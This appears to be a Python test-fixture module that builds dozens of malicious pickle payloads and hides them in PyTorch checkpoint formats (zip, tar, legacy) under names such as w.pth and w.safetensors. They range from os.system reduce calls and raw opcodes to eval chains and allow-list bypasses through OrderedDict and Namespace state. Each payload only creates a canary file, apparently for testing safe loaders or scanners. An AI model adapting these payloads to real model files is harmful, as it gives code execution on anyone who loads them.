"""Pickles that run code when they are read, in the shapes that attackers give them, and the files they hide in.

Every payload creates the canary, a file: the tests show that Python's own unpickler does create it.
"""

from __future__ import annotations

import argparse
import functools
import importlib
import io
import operator
import os
import pickle
import runpy
import shutil
import subprocess
import tarfile
import timeit
import zipfile
from collections import OrderedDict
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import torch

MAGIC, PROTOCOL = 0x1950A86A20F9469CFC6C, 1001  # of torch's format before 1.6


class Call:
    """Pickles as the call of a function; unpickling makes it."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self.function, self.arguments = function, arguments

    def __call__(self) -> None:
        """Lets pickle take one call as the function of another."""

    def __reduce__(self) -> tuple[Any, ...]:
        return self.function, self.arguments


class State:
    """Pickles as an allowed class with a payload in its state."""

    def __init__(self, payload: object) -> None:
        self.payload = payload

    def __reduce__(self) -> tuple[Any, ...]:
        return argparse.Namespace, (), {"lr": self.payload}


class Items:
    """Pickles as an allowed dictionary that is filled with a payload."""

    def __init__(self, payload: object) -> None:
        self.payload = payload

    def __reduce__(self) -> tuple[Any, ...]:
        return OrderedDict, (), None, None, iter([("a", self.payload)])


def _raw(template: str) -> Callable[[Path], bytes]:
    return lambda canary: template.format(command=f"touch {canary}").encode()


def _call(make: Callable[[Path], object], protocol: int = 2) -> Callable[[Path], bytes]:
    return lambda canary: pickle.dumps({"weight": make(canary)}, protocol=protocol)


def _touch(canary: Path) -> Call:
    return Call(os.system, f"touch {canary}")


def _source(canary: Path) -> str:
    return f"open({str(canary)!r}, 'w').close()"


def _script(canary: Path) -> str:
    path = canary.with_suffix(".py")
    path.write_text(_source(canary))
    return str(path)


def _other(canary: Path) -> str:
    path = canary.with_suffix(".inner")
    path.write_bytes(pickle.dumps(_touch(canary), protocol=2))
    return str(path)


def _persistent(canary: Path) -> bytes:
    class Pickler(pickle.Pickler):
        def persistent_id(self, item: object) -> object:
            return ("storage", _touch(canary), "0", "cpu", 1) if item == "tensor" else None

    stream = io.BytesIO()
    Pickler(stream, protocol=2).dump({"weight": "tensor"})
    return stream.getvalue()


PAYLOADS: dict[str, Callable[[Path], bytes]] = {
    "os.system": _call(_touch),
    "os.system, protocol 4": _call(_touch, protocol=4),
    "os.system, protocol 0": _call(_touch, protocol=0),
    "GLOBAL and REDUCE by hand": _raw("cposix\nsystem\n(S'{command}'\ntR."),
    "INST": _raw("(S'{command}'\nios\nsystem\n."),
    "OBJ": _raw("(cos\nsystem\nS'{command}'\no."),
    "eval": _call(lambda c: Call(eval, _source(c))),
    "exec": _call(lambda c: Call(exec, _source(c))),
    "getattr chain": _call(lambda c: Call(Call(getattr, Call(__import__, "os"), "system"), f"touch {c}")),
    "importlib": _call(lambda c: Call(Call(getattr, Call(importlib.import_module, "os"), "system"), f"touch {c}")),
    "subprocess.call": _call(lambda c: Call(subprocess.call, ["touch", str(c)])),
    "subprocess.Popen": _call(lambda c: Call(subprocess.check_output, ["touch", str(c)])),
    "numpy object array": _call(lambda c: np.array([_touch(c), None], dtype=object)),
    "open for writing": _call(lambda c: Call(open, str(c), "w")),
    "pathlib": _call(lambda c: Call(Path.touch, c)),
    "torch.load of another file": _call(lambda c: Call(functools.partial(torch.load, weights_only=False), _other(c))),
    "pickle in bytes": _call(lambda c: Call(pickle.loads, pickle.dumps(_touch(c)))),
    "pickle in a storage": _call(lambda c: Call(torch.storage._load_from_bytes, pickle.dumps(_touch(c)))),
    "torch.save": _call(lambda c: Call(torch.save, 1, str(c))),
    "torch.from_file": _call(lambda c: Call(torch.from_file, str(c), True, 4)),
    "_rebuild_from_type_v2": _call(
        lambda c: Call(torch._tensor._rebuild_from_type_v2, os.system, torch.Tensor, (f"touch {c}",), {})
    ),
    "inside _rebuild_parameter": _call(
        lambda c: Call(torch._utils._rebuild_parameter, _touch(c), False, OrderedDict())
    ),
    "persistent id": _persistent,
    "state of an allowed class": _call(lambda c: State(_touch(c))),
    "items of an allowed class": _call(lambda c: Items(_touch(c))),
    "methodcaller": _call(lambda c: Call(operator.methodcaller("touch"), c)),
    "runpy": _call(lambda c: Call(runpy.run_path, _script(c))),
    "timeit": _call(lambda c: Call(timeit.timeit, _source(c), "pass", timeit.default_timer, 1)),
    "shutil": _call(lambda c: Call(shutil.copyfile, _script(c), str(c))),
}


def as_pickle(raw: bytes) -> bytes:
    """Nothing but the pickle."""
    return raw


def as_legacy(raw: bytes) -> bytes:
    """torch's format before 1.6: a few pickles in a row."""
    system = {"protocol_version": PROTOCOL, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
    before = b"".join(pickle.dumps(item, protocol=2) for item in (MAGIC, PROTOCOL, system))
    return before + raw + pickle.dumps([], protocol=2)


def as_archive(raw: bytes, *, compressed: bool = False) -> bytes:
    """torch's format since 1.6: a zip archive with ``data.pkl``."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED if compressed else zipfile.ZIP_STORED) as archive:
        for name, content in (("data.pkl", raw), ("byteorder", b"little"), ("version", b"3\n"), ("data/0", b"\0" * 4)):
            archive.writestr(f"archive/{name}", content)
    return stream.getvalue()


def as_tar(raw: bytes) -> bytes:
    """torch's first format: a tar archive."""
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as archive:
        for name in ("sys_info", "pickle", "storages", "tensors"):
            info = tarfile.TarInfo(name)
            info.size = len(raw)
            archive.addfile(info, io.BytesIO(raw))
    return stream.getvalue()


CONTAINERS: dict[str, Callable[[bytes], bytes]] = {
    "pickle": as_pickle,
    "legacy": as_legacy,
    "archive": as_archive,
    "compressed archive": functools.partial(as_archive, compressed=True),
    "tar": as_tar,
}
NAMES = ("w.pth", "w.pt", "w.bin", "w.ckpt", "w.pth.tar", "w.safetensors")
